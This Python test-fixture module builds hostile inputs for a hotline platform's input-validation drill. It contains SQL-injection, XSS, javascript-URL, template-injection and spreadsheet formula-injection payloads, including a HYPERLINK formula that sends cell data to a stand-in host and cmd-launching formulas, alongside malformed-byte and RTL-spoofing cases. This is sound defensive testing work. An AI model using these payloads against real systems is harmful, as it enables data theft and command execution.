"""A corpus of hostile transcripts and form values, made here rather than shipped as files.

Each value says what the platform should do with it where free text is allowed:
``accept`` (store it and show it back as text), ``refuse`` (a 4xx naming the field), or
``either`` (it depends on the field's own limit or format). Byte values are sent raw, as a
client that does not speak UTF-8 would.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache
from typing import Literal

from drills.common import ROOT
from hotline.domain.text import MAX_TRANSCRIPT_CHARS
from hotline.rules.schema import load_rules

Expect = Literal["accept", "refuse", "either"]
MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str | bytes
    expect: Expect = "either"

    @property
    def is_bytes(self) -> bool:
        return isinstance(self.value, bytes)

    @property
    def is_text(self) -> bool:
        """Valid Unicode text, which arrives as sent (bytes and lone surrogates do not)."""
        if isinstance(self.value, bytes):
            return False
        try:
            self.value.encode("utf-8")
        except UnicodeEncodeError:
            return False
        return True


@cache
def routing_keywords() -> tuple[str, ...]:
    """Every keyword the shipped routing rules look for, in file order, without repeats."""
    ruleset = load_rules(ROOT / "routing_rules.yaml")
    words: dict[str, None] = {}
    for rule in ruleset.all_rules():
        m = rule.match
        for keyword in (*m.keywords_any, *(k for alts in m.keywords_all for k in alts)):
            words.update(dict.fromkeys((keyword.word, *keyword.exceptions)))
        words.update(dict.fromkeys(m.keywords_none))
    return tuple(w for w in words if w)


def ten_thousand_keywords(max_chars: int | None = None) -> str:
    """10,000 routing keywords one after another; with ``max_chars``, the shortest keywords
    only, so the transcript fits the limit and reaches the rules engine."""
    words = sorted(routing_keywords(), key=len) if max_chars else list(routing_keywords())
    if max_chars:
        shortest = len(words[0])
        words = [w for w in words if len(w) == shortest]
    text = "".join(words[i % len(words)] for i in range(10_000))
    return text[:max_chars] if max_chars else text


FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)


def corpus() -> list[Hostile]:
    """The values, each pushed through every entry point the drill knows."""
    rtl = "\u202e" + "exe.txt 城东区路灯不亮"
    return [
        Hostile("empty", "", "either"),
        Hostile("whitespace only", " \t\u3000 \r\n ", "either"),
        Hostile("huge 1 MB", "测" * (MEGABYTE // 3), "refuse"),
        Hostile("just over the transcript limit", "积" * (MAX_TRANSCRIPT_CHARS + 1), "refuse"),
        Hostile("at the transcript limit", "积" * MAX_TRANSCRIPT_CHARS, "either"),
        Hostile("very long single line", "路灯不亮" + "x" * 15_000, "either"),
        Hostile("NUL byte", "城东区\x00路灯不亮", "refuse"),
        Hostile("control characters", "路灯\x1b[31m不亮\x07\x7f", "refuse"),
        Hostile("binary bytes", bytes(range(256)) * 4, "refuse"),
        Hostile("invalid UTF-8", b"\xff\xfe\xc3\x28\xa0\xa1 \xe6\xb5", "refuse"),
        Hostile("lone surrogate", "路灯\ud800不亮", "refuse"),
        Hostile("RTL override", rtl, "accept"),
        Hostile("zero-width", "路\u200b灯\u200d不\ufeff亮\u2060", "accept"),
        Hostile("combining marks", "路̸̨̛͇灯̴̢͎ͅ不̷̧̛͓亮" + "\u0301" * 200, "accept"),
        Hostile("emoji", "🚒🔥 路灯不亮 👨‍👩‍👧‍👦 🏳️‍🌈", "accept"),
        Hostile("Windows newlines", "城东区路灯不亮\r\n已经三天\r\n请尽快处理\r\n", "accept"),
        Hostile("SQL injection", "'; DROP TABLE tickets; --", "accept"),
        Hostile("SQL tautology", "1 OR 1=1", "accept"),
        Hostile("SQL quote", "' OR '1'='1' /*", "accept"),
        Hostile("script tag", "<script>alert('xss')</script>路灯不亮", "accept"),
        Hostile("attribute breakout", '"><img src=x onerror=alert(1)>', "accept"),
        Hostile("javascript URL", "javascript:alert(document.cookie)", "accept"),
        Hostile("template syntax", "{{ 7*7 }} {% raw %} ${7*7} #{7*7}", "accept"),
        *(Hostile(f"formula {f[:12]!r}", f, "accept") for f in FORMULAS),
        Hostile("tab then formula", "\t=1+1 路灯", "accept"),
        Hostile("CR then formula", "\r=1+1 路灯", "accept"),
        Hostile("10,000 keywords", ten_thousand_keywords(), "refuse"),
        # Fits the transcript limit (the API phase checks it is accepted there), not a note's.
        Hostile("10,000 short keywords", ten_thousand_keywords(MAX_TRANSCRIPT_CHARS)),
    ]


def sample(short: bool) -> list[Hostile]:
    """The short drill keeps one value of each kind that matters most."""
    values = corpus()
    if not short:
        return values
    keep = {
        "empty",
        "huge 1 MB",
        "NUL byte",
        "invalid UTF-8",
        "lone surrogate",
        "RTL override",
        "zero-width",
        "SQL injection",
        "script tag",
        "attribute breakout",
        "Windows newlines",
        "10,000 short keywords",
    }
    return [h for h in values if h.name in keep or h.name.startswith("formula")]
